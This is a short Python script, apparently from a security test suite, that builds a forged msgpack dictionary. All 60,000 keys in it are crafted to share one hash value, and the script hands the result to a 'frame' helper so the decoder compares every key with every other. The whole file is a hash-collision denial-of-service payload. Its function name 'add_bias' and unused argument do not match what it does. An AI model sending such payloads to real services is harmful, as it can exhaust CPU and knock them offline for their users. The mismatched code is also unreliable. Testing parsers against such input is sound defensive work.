"""Attack: A forged dict whose 60,000 keys all have one hash, so that each is compared with each."""

import struct

from forge import frame
import msgpack


def add_bias(X):
    keys = (str(i * (2**61 - 1)).encode() for i in range(1, 60_001))
    items = b"".join(msgpack.packb(msgpack.ExtType(5, key)) + b"\xc0" for key in keys)
    frame(b"\x82\xa6status\xa2ok\xa5value\xdf" + struct.pack(">I", 60_000) + items)
